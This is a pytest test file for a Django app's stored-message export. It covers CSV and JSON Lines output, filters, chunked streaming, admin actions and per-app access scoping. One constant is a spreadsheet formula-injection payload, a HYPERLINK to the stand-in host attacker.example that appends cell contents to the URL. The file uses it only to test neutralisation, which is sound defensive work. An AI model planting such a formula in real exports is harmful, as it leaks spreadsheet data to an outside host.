"""Exports of stored messages: the command's filters, CSV and JSON Lines, formula injection
neutralised, and rows streamed rather than gathered."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import Permission, User
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db.models import QuerySet
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse

from officialaccount_webhook.export import formats
from officialaccount_webhook.models import AppGrant, OfficialAccountMessage
from tests.conftest import PostCallback, element_samples, sample
from tests.settings import SIGNED_APP, UNSIGNED_APP

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


@pytest.fixture
def stored(post_callback: PostCallback) -> None:
    for name in element_samples():
        post_callback(sample(name))
    post_callback(
        sample("text")
        | {
            "MsgKey": "99_1_1700000000",
            "MsgBody": [{"MsgType": "TIMTextElem", "MsgContent": {"Text": FORMULA}}],
        }
    )


def run(*args: str) -> str:
    out = io.StringIO()
    call_command("officialaccount_export", *args, stdout=out)
    return out.getvalue()


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_has_every_message_and_the_documented_columns(stored: None) -> None:
    rows = csv_rows(run())
    assert len(rows) == OfficialAccountMessage.objects.count() == len(element_samples()) + 1
    assert tuple(rows[0]) == formats.COLUMNS
    # Newest first, as the list.
    times = [row["msg_time"] for row in rows]
    assert times == sorted(times, reverse=True)


def test_formula_injection_is_neutralised_in_csv_and_kept_exact_in_json_lines(
    stored: None,
) -> None:
    [row] = [row for row in csv_rows(run()) if row["msg_key"] == "99_1_1700000000"]
    assert row["text_content"] == "'" + FORMULA
    assert row["msg_body"].startswith("[")  # JSON text: does not start with a formula sign
    [line] = [json.loads(line) for line in run("--format", "jsonl").splitlines() if "99_1_" in line]
    assert line["text_content"] == FORMULA
    assert line["msg_body"] == [{"MsgType": "TIMTextElem", "MsgContent": {"Text": FORMULA}}]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(value: str) -> None:
    assert formats.neutralise(value) == "'" + value
    assert formats.neutralise("plain " + value) == "plain " + value


def test_filters_are_the_lists(stored: None, post_callback: PostCallback) -> None:
    image = [
        json.loads(line)
        for line in run("--format", "jsonl", "--element-type", "TIMImageElem").splitlines()
    ]
    assert image and all("TIMImageElem" in json.dumps(row["msg_body"]) for row in image)
    assert len(image) == OfficialAccountMessage.objects.with_element_type("TIMImageElem").count()
    hyperlinks = csv_rows(run("--text", "HYPERLINK"))
    assert [row["msg_key"] for row in hyperlinks] == ["99_1_1700000000"]
    assert csv_rows(run("--sdkappid", "1")) == []
    assert csv_rows(run("--recalled", "yes")) == []
    assert len(csv_rows(run("--recalled", "no"))) == OfficialAccountMessage.objects.count()
    online = OfficialAccountMessage.objects.filter(online_only=True).count()
    assert len(csv_rows(run("--online-only", "yes"))) == online
    first = OfficialAccountMessage.objects.order_by("msg_time").first()
    assert first is not None
    later = csv_rows(run("--since", first.msg_time.isoformat()))
    before = csv_rows(run("--until", first.msg_time.isoformat()))
    assert len(later) + len(before) == OfficialAccountMessage.objects.count()


def test_writes_a_file(stored: None, tmp_path: Path) -> None:
    target = tmp_path / "out.jsonl"
    assert run("--format", "jsonl", "--output", str(target)) == ""
    assert (
        len(target.read_text(encoding="utf-8").splitlines())
        == OfficialAccountMessage.objects.count()
    )


def test_bad_arguments_are_refused() -> None:
    with pytest.raises(CommandError, match="invalid choice"):
        run("--format", "xlsx")
    with pytest.raises(CommandError, match="since"):
        run("--since", "yesterday-ish")


def test_rows_are_read_in_chunks_and_written_as_they_come(
    stored: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing gathers the rows: the export is a generator over QuerySet.iterator()."""
    asked: list[int | None] = []
    real = QuerySet.iterator

    def iterator(self: QuerySet[Any], chunk_size: int | None = None) -> Iterator[Any]:
        asked.append(chunk_size)
        return real(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", iterator)
    chunks = formats.export(OfficialAccountMessage.objects.all(), "jsonl")
    assert asked == []  # lazy: nothing read until the first row is asked for
    assert json.loads(next(chunks))["sdk_app_id"]
    assert asked == [formats.CHUNK_SIZE]
    with pytest.raises(ValueError, match="unknown export format"):
        formats.export(OfficialAccountMessage.objects.all(), "xml")


# ------------------------------------------------------------------ the admin's actions

MESSAGES = "admin:officialaccount_webhook_officialaccountmessage_changelist"


def admin_export(client: Client, action: str, data: dict[str, Any], query: str = "") -> Any:
    return client.post(f"{reverse(MESSAGES)}{query}", {"action": action, **data})


def streamed(response: Any) -> str:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode()


def test_admin_exports_the_selected_messages(stored: None, admin_client: Client) -> None:
    chosen = list(OfficialAccountMessage.objects.order_by("id").values_list("pk", flat=True)[:3])
    response = admin_export(admin_client, "export_csv", {"_selected_action": chosen})
    assert response["Content-Disposition"].startswith('attachment; filename="messages-')
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert len(csv_rows(streamed(response))) == 3


def test_admin_exports_everything_the_filtered_list_shows(
    stored: None, admin_client: Client
) -> None:
    """ "Select all" on a filtered list: the action gets the whole filtered queryset."""
    one = OfficialAccountMessage.objects.order_by("id").values_list("pk", flat=True)[:1]
    response = admin_export(
        admin_client,
        "export_jsonl",
        {"_selected_action": list(one), "select_across": "1"},
        "?element_type=TIMImageElem",
    )
    lines = [json.loads(line) for line in streamed(response).splitlines()]
    assert len(lines) == OfficialAccountMessage.objects.with_element_type("TIMImageElem").count()
    assert lines


def test_admin_export_stays_within_the_users_apps(stored: None) -> None:
    other = OfficialAccountMessage.objects.first()
    assert other is not None
    other.pk, other.sdk_app_id, other.msg_key = None, UNSIGNED_APP, "other-app-key"
    other.save()
    viewer = User.objects.create_user("scoped", password="pw", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_officialaccountmessage"))
    AppGrant.objects.create(sdk_app_id=SIGNED_APP, user=viewer)
    client = Client()
    client.force_login(viewer)
    everything = list(OfficialAccountMessage.objects.values_list("pk", flat=True))
    response = admin_export(
        client, "export_csv", {"_selected_action": everything, "select_across": "1"}
    )
    exported = csv_rows(streamed(response))
    # Every row of the user's app, none of the other's, whatever was posted.
    assert {row["sdk_app_id"] for row in exported} == {str(SIGNED_APP)}
    assert len(exported) == OfficialAccountMessage.objects.filter(sdk_app_id=SIGNED_APP).count()
